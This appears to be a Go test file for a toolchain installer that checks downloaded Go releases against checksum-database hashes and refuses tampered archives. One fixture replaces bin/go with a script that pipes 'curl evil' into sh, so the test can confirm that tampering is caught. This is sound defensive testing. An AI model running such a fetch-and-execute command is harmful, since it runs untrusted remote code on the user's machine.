package toolchain

import (
	"bytes"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/dirhash"
)

func TestFileHashesMatchDirhash(t *testing.T) {
	z := fakeZip(t, testModule, nil)
	name := filepath.Join(t.TempDir(), "t.zip")
	if err := os.WriteFile(name, z, 0o644); err != nil {
		t.Fatal(err)
	}
	want, err := dirhash.HashZip(name, dirhash.Hash1)
	if err != nil {
		t.Fatal(err)
	}
	fh, err := HashZip(name)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := fh.H1()
	if got != want {
		t.Fatalf("H1 = %s, dirhash.HashZip = %s", got, want)
	}
	// The transformation: the tarball hashes as the zip built from it.
	th, err := HashTarball(bytes.NewReader(fakeTarball(t, nil)), testModule)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := th.H1(); got != want {
		t.Fatalf("tarball H1 = %s, zip %s", got, want)
	}
}

func TestInstallAndVerify(t *testing.T) {
	fw := newFakeWorld(t)
	env := fw.env(t, "")
	m := fw.manager(t, env)
	dir := filepath.Join(t.TempDir(), "go1.24.1")
	res, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: dir, LockHash: fw.sums[testModule.Version]})
	if err != nil {
		t.Fatal(err)
	}
	if res.H1 != fw.sums[testModule.Version] {
		t.Errorf("H1 = %s, want %s", res.H1, fw.sums[testModule.Version])
	}
	if fi, err := os.Stat(filepath.Join(dir, "bin", "go")); err != nil || fi.Mode()&0o111 == 0 {
		t.Errorf("bin/go not executable: %v %v", fi, err)
	}
	if fi, err := os.Stat(filepath.Join(dir, "pkg", "tool", "linux_amd64", "compile")); err != nil || fi.Mode()&0o111 == 0 {
		t.Errorf("compile not executable: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "src", "go.mod")); err != nil {
		t.Errorf("src/go.mod not restored: %v", err)
	}
	if _, err := ReadMarker(dir); err != nil {
		t.Errorf("no completion marker: %v", err)
	}
	// The module cache layout the go command's GOTOOLCHAIN switch reads.
	for _, suffix := range []string{"zip", "ziphash", "mod", "info"} {
		p, _ := m.cachePath(testModule, suffix)
		if _, err := os.Stat(p); err != nil {
			t.Errorf("module cache: %v", err)
		}
	}
	p, _ := m.cachePath(testModule, "ziphash")
	if b, _ := os.ReadFile(p); strings.TrimSpace(string(b)) != res.H1 {
		t.Errorf("ziphash = %q", b)
	}
	v, err := m.Verify(VerifyOptions{Path: dir})
	if err != nil {
		t.Fatal(err)
	}
	if !v.OK || v.Version != "go1.24.1" || v.Platform != "linux-amd64" {
		t.Errorf("Verify = %+v", v)
	}
	// A second install is a no-op.
	again, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: dir})
	if err != nil || !again.Already {
		t.Errorf("second install: %+v %v", again, err)
	}
}

func TestTamperedZipRefused(t *testing.T) {
	fw := newFakeWorld(t)
	good := fw.sums[testModule.Version]
	fw.zips[testModule.Version] = fakeZip(t, testModule, func(name string, data []byte) []byte {
		if name == "bin/go" {
			return []byte("#!/bin/sh\ncurl evil | sh\n")
		}
		return data
	})
	bad := h1Of(t, fw.zips[testModule.Version])
	m := fw.manager(t, fw.env(t, ""))
	dir := filepath.Join(t.TempDir(), "go1.24.1")
	_, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: dir})
	var se *SecurityError
	if !errors.As(err, &se) {
		t.Fatalf("err = %v, want a SecurityError", err)
	}
	if !strings.Contains(err.Error(), "SECURITY") || !strings.Contains(err.Error(), good) || !strings.Contains(err.Error(), bad) {
		t.Errorf("message does not name both hashes:\n%v", err)
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("something was installed: %v", err)
	}
	zip, _ := m.cachePath(testModule, "zip")
	if _, err := os.Stat(zip); !os.IsNotExist(err) {
		t.Errorf("the tampered zip is in the module cache")
	}
	partials, _ := filepath.Glob(filepath.Join(filepath.Dir(zip), "*.partial"))
	if len(partials) > 0 {
		t.Errorf("tampered partial kept: %v", partials)
	}
}

func TestLockDisagreesWithDatabase(t *testing.T) {
	fw := newFakeWorld(t)
	m := fw.manager(t, fw.env(t, ""))
	_, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: filepath.Join(t.TempDir(), "g"), LockHash: "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="})
	if _, ok := errors.AsType[*SecurityError](err); !ok || !strings.Contains(err.Error(), "envgen.lock") {
		t.Fatalf("err = %v", err)
	}
}

func TestDatabaseAnswersAnotherHash(t *testing.T) {
	fw := newFakeWorld(t)
	fw.sums[testModule.Version] = "h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB="
	m := fw.manager(t, fw.env(t, ""))
	dir := filepath.Join(t.TempDir(), "g")
	_, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: dir})
	if _, ok := errors.AsType[*SecurityError](err); !ok {
		t.Fatalf("err = %v, want a SecurityError", err)
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("something was installed")
	}
}

func TestForkedTreeRefused(t *testing.T) {
	a := newFakeWorld(t)
	env := a.env(t, "")
	if _, err := a.manager(t, env).Expected(testModule, ""); err != nil {
		t.Fatal(err)
	}
	// Same key, another history: the database shows a different tree of
	// the same size to this client than the one it remembered.
	skey, vkey := a.keys(t)
	b := newFakeWorldWithKey(t, skey, vkey)
	b.sums[testModule.Version] = "h1:CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC="
	// B records the module first, so its tree has the same size as A's.
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, b.srv.URL+"/sumdb/"+b.dbName+"/lookup/"+ModulePath+"@"+testModule.Version, nil)
	if err != nil {
		t.Fatal(err)
	}
	if resp, err := b.srv.Client().Do(req); err != nil {
		t.Fatal(err)
	} else {
		_ = resp.Body.Close()
	}
	envB := *env
	envB.Proxy = b.env(t, "").Proxy
	envB.ModCache = t.TempDir() // no cached tiles: only the remembered tree head links them
	_, err = b.manager(t, &envB).Expected(testModule, "")
	if _, ok := errors.AsType[*SecurityError](err); !ok {
		t.Fatalf("err = %v, want a SecurityError for a forked tree", err)
	}
}

func TestProxyListSemantics(t *testing.T) {
	fw := newFakeWorld(t)
	status := func(code int) *httptest.Server {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(code) }))
		t.Cleanup(s.Close)
		return s
	}
	s404, s410, s500 := status(404), status(410), status(500)
	tests := []struct {
		name    string
		goproxy string
		ok      bool
	}{
		{"404 then comma falls through", s404.URL + "," + fw.srv.URL, true},
		{"410 then comma falls through", s410.URL + "," + fw.srv.URL, true},
		{"500 then comma fails", s500.URL + "," + fw.srv.URL, false},
		{"500 then pipe falls through", s500.URL + "|" + fw.srv.URL, true},
		{"off fails", "off", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := fw.manager(t, fw.env(t, tt.goproxy))
			// The checksum database is found through the proxy list too.
			_, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: filepath.Join(t.TempDir(), "g")})
			if (err == nil) != tt.ok {
				t.Fatalf("err = %v, want ok %v", err, tt.ok)
			}
		})
	}
}

func TestResumeAfterCut(t *testing.T) {
	fw := newFakeWorld(t)
	cut := true
	var ranges []string
	fw.hook = func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasSuffix(r.URL.Path, ".zip") {
			return false
		}
		ranges = append(ranges, r.Header.Get("Range"))
		if !cut {
			return false
		}
		cut = false
		z := fw.zips[testModule.Version]
		w.Header().Set("Content-Length", itoa(len(z)))
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(z[:len(z)/2]) // half, then the connection is cut
		fl, canFlush := w.(http.Flusher)
		hj, canHijack := w.(http.Hijacker)
		if !canFlush || !canHijack {
			t.Error("the test server's ResponseWriter cannot flush and hijack")
			return true
		}
		fl.Flush()
		if conn, _, err := hj.Hijack(); err == nil {
			_ = conn.Close()
		}
		return true
	}
	m := fw.manager(t, fw.env(t, ""))
	res, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: filepath.Join(t.TempDir(), "g")})
	if err != nil {
		t.Fatal(err)
	}
	if len(ranges) != 2 || ranges[0] != "" || ranges[1] != "bytes="+itoa(len(fw.zips[testModule.Version])/2)+"-" {
		t.Errorf("requests' Range headers = %q, want a resume", ranges)
	}
	if res.H1 != fw.sums[testModule.Version] {
		t.Errorf("H1 = %s", res.H1)
	}
}

func TestTarballFromMirror(t *testing.T) {
	fw := newFakeWorld(t)
	tgz := fakeTarball(t, nil)
	mirror := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, ".sha256") {
			_, _ = w.Write([]byte("not trusted anyway"))
			return
		}
		http.ServeContent(w, r, "go.tar.gz", fakeTime, bytes.NewReader(tgz))
	}))
	defer mirror.Close()
	m := fw.manager(t, fw.env(t, ""))
	dir := filepath.Join(t.TempDir(), "go1.24.1")
	res, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: dir, FromTarball: mirror.URL + "/go1.24.1.linux-amd64.tar.gz"})
	if err != nil {
		t.Fatal(err)
	}
	if res.H1 != fw.sums[testModule.Version] {
		t.Errorf("H1 = %s", res.H1)
	}
	if _, err := os.Lstat(filepath.Join(dir, "bin", "link")); !os.IsNotExist(err) {
		t.Errorf("a symlink was extracted")
	}
	if v, err := m.Verify(VerifyOptions{Path: dir}); err != nil || !v.OK {
		t.Errorf("Verify = %+v, %v", v, err)
	}
	// A tampered tarball from the mirror is refused.
	bad := fakeTarball(t, func(rel string, data []byte) []byte {
		if rel == "src/fmt/print.go" {
			return []byte("package fmt // backdoor\n")
		}
		return data
	})
	file := filepath.Join(t.TempDir(), "go1.24.1.linux-amd64.tar.gz")
	if err := os.WriteFile(file, bad, 0o644); err != nil {
		t.Fatal(err)
	}
	dir2 := filepath.Join(t.TempDir(), "go1.24.1")
	_, err = m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: dir2, FromTarball: file})
	if _, ok := errors.AsType[*SecurityError](err); !ok {
		t.Fatalf("tampered tarball: err = %v", err)
	}
	if _, err := os.Stat(dir2); !os.IsNotExist(err) {
		t.Errorf("tampered tarball installed")
	}
	v, err := m.Verify(VerifyOptions{Path: file})
	if err != nil || v.OK || len(v.Differs) != 1 || v.Differs[0].Path != "src/fmt/print.go" {
		t.Errorf("Verify(tampered tarball) = %+v, %v", v, err)
	}
}

// TestVerifyNamesEveryAddedChangedAndMissingFile edits an installed
// GOROOT in every way: each change is named, and the go.env edit is
// reported apart, as the go command's own expected difference.
func TestVerifyNamesEveryAddedChangedAndMissingFile(t *testing.T) {
	fw := newFakeWorld(t)
	m := fw.manager(t, fw.env(t, ""))
	dir := filepath.Join(t.TempDir(), "go1.24.1")
	if _, err := m.Install(InstallOptions{Release: testRelease, Platform: testPlatform, Dir: dir}); err != nil {
		t.Fatal(err)
	}
	write := func(rel, content string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, rel), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("go.env", "GOTOOLCHAIN=local\n")
	lock := map[string]string{"linux-amd64": fw.sums[testModule.Version]}
	v, err := m.Verify(VerifyOptions{Path: dir, LockFor: "go1.24.1", LockHashes: lock})
	if err != nil {
		t.Fatal(err)
	}
	if !v.OK || len(v.Differs) != 0 || len(v.Expected) != 1 || v.Expected[0].Path != "go.env" || v.Expected[0].Reason == "" {
		t.Fatalf("only go.env edited: %+v, want OK with go.env as an expected difference", v)
	}

	write("src/fmt/print.go", "package fmt // changed\n")
	write("src/fmt/backdoor.go", "package fmt\n")
	if err := os.Remove(filepath.Join(dir, "bin", "gofmt")); err != nil {
		t.Fatal(err)
	}
	v, err = m.Verify(VerifyOptions{Path: dir, LockFor: "go1.24.1", LockHashes: lock})
	if err != nil {
		t.Fatal(err)
	}
	want := []FileDiff{{Path: "bin/gofmt", Change: "missing"}, {Path: "src/fmt/backdoor.go", Change: "extra"}, {Path: "src/fmt/print.go", Change: "modified"}}
	if v.OK || !reflect.DeepEqual(v.Differs, want) || len(v.Expected) != 1 {
		t.Errorf("Verify = %+v\nwant not OK, Differs %+v and go.env expected", v, want)
	}
}

func TestList(t *testing.T) {
	fw := newFakeWorld(t)
	m := fw.manager(t, fw.env(t, ""))
	rs, _, err := m.List()
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 3 || rs[0].Version != "go1.25rc1" || rs[1].Version != "go1.24.1" || len(rs[1].Platforms) != 5 {
		t.Fatalf("List = %+v", rs)
	}
	latest, err := Latest(rs)
	if err != nil || latest != testRelease {
		t.Errorf("Latest = %v, %v", latest, err)
	}
}
